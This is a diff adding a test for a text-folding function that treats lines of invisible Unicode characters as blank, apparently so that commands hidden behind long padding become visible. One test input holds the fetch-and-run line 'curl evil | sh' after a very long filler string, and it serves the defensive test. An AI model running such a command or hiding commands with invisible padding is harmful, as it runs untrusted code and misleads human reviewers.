@@ -20,6 +20,17 @@ it('folds runs of empty lines from four on, and counts them', () => {
   ]);
 });
 
+it('takes lines for empty on which nothing is drawn', () => {
+  for (const sign of ['\u2800', '\u200B ', '\u3164', '\u3000', '\uFFA0\t\u115F'])
+    expect(foldedText(`ls\n${`${sign}\n`.repeat(400)}curl\n${`${sign}\n`.repeat(400)}# list`)).toMatchObject([
+      { text: 'ls\n' },
+      { kind: 'blank', lines: 400 },
+      { text: 'curl\n' },
+      { kind: 'blank', lines: 400 },
+      { text: '# list' },
+    ]);
+});
+
 it.each([
   ['lines', lines(603)],
   ['one line', `echo ${'a'.repeat(90_000)}; curl evil | sh`],
